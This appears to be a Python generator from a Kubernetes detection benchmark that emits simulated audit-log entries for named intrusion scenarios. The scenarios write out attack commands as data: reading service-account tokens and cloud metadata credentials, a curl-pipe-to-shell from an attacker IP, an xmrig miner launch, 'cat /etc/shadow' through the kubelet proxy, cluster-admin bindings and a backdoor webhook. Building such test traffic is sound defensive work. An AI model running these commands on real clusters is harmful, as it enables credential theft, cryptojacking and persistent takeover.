"""Attacks injected into a busy day, each a named scenario played once, as the platform's API server logs
it: a developer's stolen credentials or a stolen service-account token used from outside, anonymous
access through a bad binding. `SCENARIOS` says which platforms each one is played on; what rule each
should raise is the benchmark's table (bench/noise_labels.py), not the generator's."""

from __future__ import annotations

from typing import Any

from kubesigma.connectors.simulated_cluster.attacks import ATTACKER_IPS, MINER_IMAGES, MINER_POOLS, SECRETS
from kubesigma.connectors.simulated_cluster.day_traffic import DayTraffic
from kubesigma.connectors.simulated_cluster.identities import (
    PUBLIC_INFO_VIEWER,
    Identity,
    anonymous,
    rbac_reason,
)
from kubesigma.connectors.simulated_cluster.manifests import created
from kubesigma.connectors.simulated_cluster.people import exec_query
from kubesigma.connectors.simulated_cluster.platforms import KUBECTL, KUBECTL_OLD
from kubesigma.connectors.simulated_cluster.traffic import Episode

ALL = ("gke", "eks", "self-managed")
RBAC = "rbac.authorization.k8s.io"
# scenario -> platforms it is played on (an EKS token path on EKS, GCE's metadata server on GKE ...).
SCENARIOS: dict[str, tuple[str, ...]] = {
    "exec_sa_token": ALL,
    "exec_projected_token": ALL,
    "exec_irsa_token": ("eks",),
    "exec_metadata_aws": ("eks", "self-managed"),
    "exec_metadata_gce": ("gke",),
    "exec_download_pipe_shell": ALL,
    "exec_miner": ALL,
    "kubectl_cp_out": ALL,
    "privileged_pod": ALL,
    "hostpath_pod": ALL,
    "hostpid_pod": ALL,
    "workload_kube_system": ALL,
    "workload_platform_namespace": ALL,
    "binding_cluster_admin": ALL,
    "binding_admin_cluster_wide": ALL,
    "binding_system_masters": ALL,
    "role_escalate_bind_impersonate": ALL,
    "role_wildcard": ALL,
    "nodes_proxy_run": ALL,
    "nodes_proxy_exec": ALL,
    "anonymous_allowed": ALL,
    "anonymous_then_workload": ALL,
    "secret_enumeration": ALL,
    "miner_image": ALL,
    "miner_args": ALL,
    "impersonate_system_masters": ALL,
    "token_request_stolen": ALL,
    "recon_then_access": ALL,
    "binding_then_exec": ALL,
    "webhook_backdoor": ALL,
    "client_certificate_csr": ALL,
}


class Intrusions(DayTraffic):
    SCENES = tuple(SCENARIOS)

    # ---- who attacks ---------------------------------------------------------------------------------

    def _ip(self) -> str:
        return self.rng.choice(ATTACKER_IPS)

    def developer(self, ua: str = KUBECTL) -> Identity:
        """A developer's credentials, stolen and used from the attacker's address."""
        person = self.c.person(1)
        return Identity(
            person.username, person.groups, person.uid, self._ip(), ua, person.reason, extra=person.extra
        )

    def stolen_token(self, ua: str = "python-requests/2.31.0") -> Identity:
        """The GitOps controller's token (it may do anything), taken from its pod and used from outside."""
        ns, sa = (
            ("flux-system", "kustomize-controller")
            if self.platform == "self-managed"
            else ("argocd", "argocd-application-controller")
        )
        pod = f"{sa}-{self.c.suffix(10)}-{self.c.suffix(5)}"
        reason = rbac_reason("ClusterRoleBinding", sa, sa, "ServiceAccount", f"{ns}/{sa}")
        return self.c.service_account(ns, sa, self._ip(), ua, reason, pod=pod)

    # ---- exec ----------------------------------------------------------------------------------------

    def _exec(
        self, t: float, who: Identity, command: tuple[str, ...], *, interactive: bool = False
    ) -> Episode:
        ns, pod, app, _node = self.app_pod()
        verb = "create" if who.user_agent == KUBECTL_OLD else "get"
        query = exec_query(command, app, interactive)
        return self.api.call(
            t, who, verb, "pods", ns, pod, sub="exec", query=query, latency=self.rng.uniform(1, 90)
        )

    def exec_sa_token(self, t: float) -> Episode:
        return self._exec(
            t, self.developer(KUBECTL_OLD), ("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token")
        )

    def exec_projected_token(self, t: float) -> Episode:
        return self._exec(t, self.developer(), ("cat", "/var/run/secrets/tokens/vault-token"))

    def exec_irsa_token(self, t: float) -> Episode:
        return self._exec(
            t, self.developer(), ("cat", "/var/run/secrets/eks.amazonaws.com/serviceaccount/token")
        )

    def exec_metadata_aws(self, t: float) -> Episode:
        cmd = "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"
        return self._exec(t, self.developer(KUBECTL_OLD), ("sh", "-c", cmd))

    def exec_metadata_gce(self, t: float) -> Episode:
        url = "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"
        return self._exec(t, self.developer(), ("curl", "-s", "-H", "Metadata-Flavor: Google", url))

    def exec_download_pipe_shell(self, t: float) -> Episode:
        return self._exec(t, self.developer(), ("sh", "-c", f"curl -fsSL http://{self._ip()}/x.sh | sh"))

    def exec_miner(self, t: float) -> Episode:
        cmd = f"nohup /tmp/xmrig -o {self.rng.choice(MINER_POOLS)} --donate-level=1 >/dev/null 2>&1 &"
        return self._exec(t, self.developer(KUBECTL_OLD), ("sh", "-c", cmd))

    def kubectl_cp_out(self, t: float) -> Episode:
        """`kubectl cp <pod>:/app/config ./loot`: tar writes the directory to stdout."""
        return self._exec(t, self.developer(), ("tar", "cf", "-", "/app/config"))

    # ---- workloads -----------------------------------------------------------------------------------

    def _pod(self, t: float, who: Identity, ns: str, name: str, spec: dict[str, Any], psa: str) -> Episode:
        pod = {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns, "labels": {"app": name}},
               "spec": spec, "status": {}}  # fmt: skip
        return self.api.call(
            t, who, "create", "pods", ns, name, body=pod, response=created(self.c, pod, t, name),
            annotations={"pod-security.kubernetes.io/enforce-policy": psa},
        )  # fmt: skip

    def privileged_pod(self, t: float) -> Episode:
        spec = {"containers": [{"name": "tools", "image": "ubuntu:22.04", "command": ["sleep", "infinity"],
                                "securityContext": {"privileged": True}}]}  # fmt: skip
        return self._pod(
            t, self.developer(), "shop", f"debug-tools-{self.c.suffix(5)}", spec, "privileged:latest"
        )

    def hostpath_pod(self, t: float) -> Episode:
        spec = {"containers": [{"name": "reader", "image": "alpine:3.20", "command": ["sleep", "infinity"],
                                "volumeMounts": [{"name": "etc", "mountPath": "/host-etc"}]}],
                "volumes": [{"name": "etc", "hostPath": {"path": "/etc", "type": "Directory"}}]}  # fmt: skip
        return self._pod(
            t, self.developer(), "payments", f"cfg-sync-{self.c.suffix(5)}", spec, "privileged:latest"
        )

    def hostpid_pod(self, t: float) -> Episode:
        spec = {"hostPID": True, "containers": [{"name": "ns", "image": "alpine:3.20",
                                                 "command": ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"],
                                                 "stdin": True, "tty": True}]}  # fmt: skip
        return self._pod(
            t,
            self.stolen_token(KUBECTL),
            "default",
            f"node-shell-{self.c.suffix(5)}",
            spec,
            "privileged:latest",
        )

    def _deployment(self, ns: str, name: str, image: str, args: list[str] | None = None) -> dict[str, Any]:
        container: dict[str, Any] = {"name": name, "image": image, "resources": {"limits": {"cpu": "2"}}}
        if args:
            container["args"] = args
        return {
            "apiVersion": "apps/v1",
            "kind": "Deployment",
            "metadata": {"name": name, "namespace": ns, "labels": {"app": name}},
            "spec": {"replicas": 2, "selector": {"matchLabels": {"app": name}},
                     "template": {"metadata": {"labels": {"app": name}}, "spec": {"containers": [container]}}},
        }  # fmt: skip

    def _create(
        self, t: float, who: Identity, resource: str, obj: dict[str, Any], group: str = "apps"
    ) -> Episode:
        meta = obj["metadata"]
        return self.api.call(
            t, who, "create", resource, meta.get("namespace"), meta["name"], group=group, body=obj,
            response=created(self.c, obj, t, meta["name"]),
        )  # fmt: skip

    def workload_kube_system(self, t: float) -> Episode:
        obj = self._deployment(
            "kube-system", "kube-proxy-helper", "docker.io/library/alpine:3.20", ["sleep", "infinity"]
        )
        return self._create(t, self.developer(), "deployments", obj)

    def workload_platform_namespace(self, t: float) -> Episode:
        ns = {"gke": "gmp-system", "eks": "amazon-cloudwatch", "self-managed": "calico-system"}[self.platform]
        obj = self._deployment(ns, "metrics-relay", "docker.io/library/alpine:3.20", ["sleep", "infinity"])
        return self._create(t, self.stolen_token(KUBECTL), "deployments", obj)

    def miner_image(self, t: float) -> Episode:
        obj = self._deployment("default", "cache-warmer", self.rng.choice(MINER_IMAGES))
        return self._create(t, self.stolen_token(KUBECTL), "deployments", obj)

    def miner_args(self, t: float) -> Episode:
        pool = self.rng.choice(MINER_POOLS)
        args = [
            "-o",
            pool,
            "-u",
            "4" + self.c.suffix(94),
            "-p",
            "x",
            "--donate-level=1",
            "--cpu-max-threads-hint=100",
        ]
        obj = self._deployment("search", "indexer-cache", "docker.io/library/ubuntu:22.04", args)
        return self._create(t, self.stolen_token(KUBECTL), "deployments", obj)

    # ---- RBAC ----------------------------------------------------------------------------------------

    def _binding(
        self,
        t: float,
        who: Identity,
        name: str,
        role: str,
        subject: dict[str, str],
        namespace: str | None = None,
    ) -> Episode:
        kind = "RoleBinding" if namespace else "ClusterRoleBinding"
        meta: dict[str, Any] = {"name": name, **({"namespace": namespace} if namespace else {})}
        obj = {"apiVersion": f"{RBAC}/v1", "kind": kind, "metadata": meta,
               "roleRef": {"apiGroup": RBAC, "kind": "ClusterRole", "name": role}, "subjects": [subject]}  # fmt: skip
        resource = "rolebindings" if namespace else "clusterrolebindings"
        return self.api.call(
            t,
            who,
            "create",
            resource,
            namespace,
            name,
            group=RBAC,
            body=obj,
            response=created(self.c, obj, t, name),
        )

    def binding_cluster_admin(self, t: float) -> Episode:
        subject = {"kind": "ServiceAccount", "name": "default", "namespace": "default"}
        return self._binding(t, self.stolen_token(KUBECTL), "default-admin", "cluster-admin", subject)

    def binding_admin_cluster_wide(self, t: float) -> Episode:
        subject = {"kind": "User", "apiGroup": RBAC, "name": self.c.person(2).username}
        return self._binding(
            t, self.stolen_token(KUBECTL), "support-admin", self.rng.choice(("admin", "edit")), subject
        )

    def binding_system_masters(self, t: float) -> Episode:
        subject = {"kind": "Group", "apiGroup": RBAC, "name": "system:masters"}
        return self._binding(t, self.stolen_token(KUBECTL), "masters-view", "view", subject)

    def _cluster_role(self, t: float, who: Identity, name: str, rules: list[dict[str, Any]]) -> Episode:
        obj = {"apiVersion": f"{RBAC}/v1", "kind": "ClusterRole", "metadata": {"name": name}, "rules": rules}
        return self.api.call(
            t,
            who,
            "create",
            "clusterroles",
            None,
            name,
            group=RBAC,
            body=obj,
            response=created(self.c, obj, t, name),
        )

    def role_escalate_bind_impersonate(self, t: float) -> Episode:
        rules = [
            {
                "apiGroups": [RBAC],
                "resources": ["clusterroles", "clusterrolebindings"],
                "verbs": ["escalate", "bind"],
            },
            {
                "apiGroups": [""],
                "resources": ["users", "groups", "serviceaccounts"],
                "verbs": ["impersonate"],
            },
        ]
        return self._cluster_role(t, self.stolen_token(KUBECTL), "ops-helper", rules)

    def role_wildcard(self, t: float) -> Episode:
        obj = {"apiVersion": f"{RBAC}/v1", "kind": "Role", "metadata": {"name": "ci-all", "namespace": "payments"},
               "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}  # fmt: skip
        return self.api.call(
            t, self.developer(), "create", "roles", "payments", "ci-all", group=RBAC, body=obj,
            response=created(self.c, obj, t, "ci-all"),
        )  # fmt: skip

    def binding_then_exec(self, t: float) -> Episode:
        """A stolen admin token binds exec rights to a user, who then execs into a pod."""
        victim = self.developer(KUBECTL_OLD)
        subject = {"kind": "User", "apiGroup": RBAC, "name": victim.username}
        ns, pod, app, _node = self.rng.choice([p for p in self.c.pods if p[0] == "payments"])
        out = self._binding(t, self.stolen_token(KUBECTL), "payments-debug", "admin", subject, namespace=ns)
        query = exec_query(("sh",), app, True)
        return out + self.api.call(
            t + self.rng.uniform(30, 240),
            victim,
            "create",
            "pods",
            ns,
            pod,
            sub="exec",
            query=query,
            latency=400.0,
        )

    # ---- kubelet API, anonymous, secrets, impersonation, tokens ---------------------------------------

    def nodes_proxy_run(self, t: float) -> Episode:
        ns, pod, app, node = self.app_pod()
        path = f"/api/v1/nodes/{node}/proxy/run/{ns}/{pod}/{app}"
        return self.api.call(
            t,
            self.stolen_token("curl/8.4.0"),
            "create",
            "nodes",
            None,
            node,
            sub="proxy",
            path=path,
            query="cmd=id",
            latency=0.4,
        )

    def nodes_proxy_exec(self, t: float) -> Episode:
        ns, pod, app, node = self.app_pod()
        path = f"/api/v1/nodes/{node}/proxy/exec/{ns}/{pod}/{app}"
        query = "command=cat&command=%2Fetc%2Fshadow&output=1&error=1"
        return self.api.call(
            t,
            self.stolen_token("websocat/1.13.0"),
            "get",
            "nodes",
            None,
            node,
            sub="proxy",
            path=path,
            query=query,
            latency=2.0,
        )

    def _anonymous_discovery(self, t: float, ip: str) -> tuple[Episode, Identity]:
        agent = "python-requests/2.31.0"
        who = anonymous(
            ip,
            agent,
            rbac_reason("ClusterRoleBinding", "anonymous-view", "cluster-admin", "User", "system:anonymous"),
        )
        out = self.api.call(t, anonymous(ip, agent, PUBLIC_INFO_VIEWER), "get", None, path="/version")
        out += self.api.call(t + 1, who, "get", None, path="/api")
        out += self.api.call(t + 1.3, who, "get", None, path="/apis")
        return out, who

    def anonymous_allowed(self, t: float) -> Episode:
        out, who = self._anonymous_discovery(t, self._ip())
        out += self.api.call(t + 4, who, "list", "pods", query="limit=500")
        return out + self.api.call(t + 7, who, "list", "secrets", "kube-system")

    def anonymous_then_workload(self, t: float) -> Episode:
        ip = self._ip()
        out, _who = self._anonymous_discovery(t, ip)
        creator = self.stolen_token(KUBECTL)
        creator = Identity(
            creator.username, creator.groups, creator.uid, ip, KUBECTL, creator.reason, creator.pod
        )
        obj = self._deployment("default", "kube-updater", self.rng.choice(MINER_IMAGES))
        return out + self._create(t + self.rng.uniform(60, 600), creator, "deployments", obj)

    def secret_enumeration(self, t: float) -> Episode:
        who = self.stolen_token()
        out = self.api.call(t, who, "list", "secrets", query="limit=500")
        t += self.rng.uniform(3, 10)
        for ns, name in self.rng.sample(SECRETS, 12):
            out += self.api.call(t, who, "get", "secrets", ns, name)
            t += self.rng.uniform(0.3, 2.5)
        return out

    def recon_then_access(self, t: float) -> Episode:
        """A stolen app token probes what it may do (refused again and again), then finds something allowed."""
        ns, _pod, app, _node = self.app_pod()
        who = self.c.service_account(ns, app, self._ip(), "kubectl/v1.27.1 (linux/amd64) kubernetes/4c94112",
                                     rbac_reason("RoleBinding", app, app, "ServiceAccount", f"{ns}/{app}"))  # fmt: skip
        out: Episode = []
        probes = [("", "secrets"), ("", "pods"), ("", "serviceaccounts"), ("apps", "deployments"), ("apps", "daemonsets"),
                  ("batch", "cronjobs"), ("", "configmaps")]  # fmt: skip
        for group, resource in probes:
            for target_ns in ("kube-system", "payments"):
                out += self.api.call(
                    t, who, "list", resource, target_ns, group=group, version="v1", deny="rbac"
                )
                t += self.rng.uniform(0.3, 2)
        for resource in ("nodes", "namespaces", "clusterrolebindings"):
            group = RBAC if resource == "clusterrolebindings" else ""
            out += self.api.call(t, who, "list", resource, group=group, deny="rbac")
            t += self.rng.uniform(0.3, 2)
        # What its own Role allows: the app's ConfigMaps.
        return out + self.api.call(t + 2, who, "list", "configmaps", ns)

    def impersonate_system_masters(self, t: float) -> Episode:
        who = self.developer()
        target = Identity(
            "kubernetes-admin",
            ("system:masters", "system:authenticated"),
            "",
            who.source_ip,
            who.user_agent,
            "",
        )
        return self.api.call(t, who, "list", "secrets", "kube-system", impersonate=target)

    def token_request_stolen(self, t: float) -> Episode:
        """A stolen token mints a token for a powerful service account (persistence without a Secret)."""
        body = {
            "kind": "TokenRequest",
            "apiVersion": "authentication.k8s.io/v1",
            "spec": {"expirationSeconds": 31536000},
        }
        return self.api.call(
            t,
            self.stolen_token(KUBECTL),
            "create",
            "serviceaccounts",
            "kube-system",
            "clusterrole-aggregation-controller",
            sub="token",
            body=body,
        )

    def webhook_backdoor(self, t: float) -> Episode:
        obj = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
               "metadata": {"name": "pod-policy"},
               "webhooks": [{"name": "pods.policy.io", "clientConfig": {"url": f"https://{self._ip()}:8443/mutate"},
                             "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"]}],
                             "sideEffects": "None", "admissionReviewVersions": ["v1"], "failurePolicy": "Ignore"}]}  # fmt: skip
        return self.api.call(
            t, self.stolen_token(KUBECTL), "create", "mutatingwebhookconfigurations", None, "pod-policy",
            group="admissionregistration.k8s.io", body=obj, response=created(self.c, obj, t, "pod-policy"),
        )  # fmt: skip

    def client_certificate_csr(self, t: float) -> Episode:
        """Persistence: a client certificate for a made-up admin, requested and approved by the stolen token."""
        who = self.stolen_token(KUBECTL)
        name = "ops-admin"
        body = {"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest", "metadata": {"name": name},
                "spec": {"request": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K", "signerName": "kubernetes.io/kube-apiserver-client",
                         "expirationSeconds": 31536000, "usages": ["client auth"]}}  # fmt: skip
        group = "certificates.k8s.io"
        out = self.api.call(
            t, who, "create", "certificatesigningrequests", None, name, group=group, body=body, response=body
        )
        approved = {
            **body,
            "status": {"conditions": [{"type": "Approved", "status": "True", "reason": "KubectlApprove"}]},
        }
        return out + self.api.call(
            t + 5,
            who,
            "update",
            "certificatesigningrequests",
            None,
            name,
            group=group,
            sub="approval",
            body=approved,
            response=approved,
        )
